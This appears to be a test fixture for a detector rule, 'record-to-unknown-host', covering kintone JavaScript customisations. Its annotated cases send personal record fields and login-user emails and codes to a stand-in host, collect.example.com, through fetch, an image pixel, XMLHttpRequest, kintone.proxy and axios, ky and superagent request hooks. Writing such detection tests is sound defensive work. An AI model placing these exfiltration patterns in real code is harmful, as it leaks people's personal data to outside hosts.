// 知られていない送信先
(() => {
  'use strict';

  kintone.events.on('app.record.create.submit.success', async (event) => {
    const record = event.record; // source: record-to-unknown-host
    await kintone.proxy('https://collect.example.com/api', 'POST', {}, { name: record.氏名.value }); // expect: record-to-unknown-host
    await fetch('https://collect.example.com/api', { // expect: record-to-unknown-host
      method: 'POST',
      body: JSON.stringify(record),
    });
    await fetch(`https://collect.example.com/api?tel=${encodeURIComponent(record.電話番号.value)}`); // expect: record-to-unknown-host

    const image = new Image();
    image.src = 'https://collect.example.com/pixel.gif?d=' + record.住所.value; // expect: record-to-unknown-host

    const request = new XMLHttpRequest();
    request.open('POST', 'https://collect.example.com/api');
    request.send(JSON.stringify({ memo: record.備考.value })); // expect: record-to-unknown-host

    // 個人情報を含まない知らせ、kintone 自身への登録
    await kintone.proxy('https://collect.example.com/api', 'POST', {}, { text: '申請が届きました' });
    await kintone.api('/k/v1/record', 'POST', { app: 12, record: { 氏名: { value: record.氏名.value } } });
    return event;
  });

  const send = (address) => {
    const user = kintone.getLoginUser(); // source: record-to-unknown-host
    return kintone.proxy(address, 'POST', {}, { mail: user.email }); // expect: record-to-unknown-host
  };
  send(window.abikoEndpoint);
})();

// 送る前に書き換える設定は、そのクライアントが送る全ての通信に付く。
((axios) => {
  const outside = axios.create({ baseURL: 'https://collect.example.com' });
  const inside = axios.create({ baseURL: '/k/v1' });
  const configured = axios.create({ baseURL: kintone.plugin.app.getConfig('x').baseURL });
  const user = kintone.getLoginUser(); // source: record-to-unknown-host
  outside.interceptors.request.use((config) => {
    config.headers['X-Kind'] = 'kintone';
    config.headers['X-Staff'] = user.email; // expect: record-to-unknown-host
    config.headers.set('X-Code', user.code); // expect: record-to-unknown-host
    config.params.staff = user.name; // expect: record-to-unknown-host
    return config;
  });
  outside.interceptors.request.use((config) => ({ ...config, headers: { 'X-Staff': user.email } })); // expect: record-to-unknown-host
  const stamp = (config) => {
    config.headers.Authorization = user.code; // expect: record-to-unknown-host
    return config;
  };
  outside.interceptors.request.use(stamp);
  inside.interceptors.request.use((config) => {
    config.headers['X-Staff'] = user.email;
    config.params.staff = user.name;
    return config;
  });
  inside.interceptors.request.use((config) => ({ ...config, headers: { 'X-Staff': user.email } }));
  configured.post('/list.json', { mail: user.email }); // expect: record-to-unknown-host
  inside.post('/list.json', { mail: user.email });
  outside.get('/list.json');
  inside.get('/app.json');
})(window.axios);

(() => {
  const user = kintone.getLoginUser(); // source: record-to-unknown-host
  const outside = ky.create({
    prefixUrl: 'https://collect.example.com',
    hooks: {
      beforeRequest: [
        (request) => {
          request.headers.set('X-Staff', user.email); // expect: record-to-unknown-host
        },
      ],
    },
  });
  const inside = ky.create({
    prefixUrl: '/k/v1',
    hooks: {
      beforeRequest: [
        (request) => {
          request.headers.set('X-Staff', user.email);
        },
      ],
    },
  });
  outside.get('list.json');
  inside.get('app.json');
  superagent.get('https://collect.example.com/list.json').use((request) => {
    request.set('X-Staff', user.code); // expect: record-to-unknown-host
  });
  superagent.get('/k/v1/app.json').use((request) => {
    request.set('X-Staff', user.code);
  });
})();
